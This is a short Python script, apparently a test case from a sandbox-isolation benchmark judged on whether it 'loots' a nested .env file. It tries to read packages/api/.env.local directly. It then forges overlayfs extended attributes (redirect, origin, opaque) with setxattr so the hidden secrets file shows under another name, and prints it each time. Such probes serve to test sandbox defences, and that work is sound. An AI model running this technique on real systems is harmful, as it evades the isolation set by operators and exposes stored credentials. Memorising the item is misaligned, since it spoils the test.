"""Forges the attributes by which an overlay finds what lies below, so that a hidden file shows under another name.

family: secrets
judge: loot env-nested
trace: overlay, setxattr
"""

import contextlib
import os

with contextlib.suppress(OSError), open("packages/api/.env.local") as file:
    print(file.read())
for prefix in ("user.overlay.", "trusted.overlay.", "user.overlay.overlay."):
    name = "shown" + str(len(prefix))
    os.makedirs(name, exist_ok=True)
    with contextlib.suppress(OSError):
        os.setxattr(name, prefix + "redirect", b"/packages/api")
    with contextlib.suppress(OSError):
        os.setxattr(name, prefix + "origin", b"")
    with contextlib.suppress(OSError), open(name + "/.env.local") as file:
        print(file.read())
    with contextlib.suppress(OSError):
        os.setxattr("packages/api", prefix + "opaque", b"n")
    with contextlib.suppress(OSError), open("packages/api/.env.local") as file:
        print(file.read())
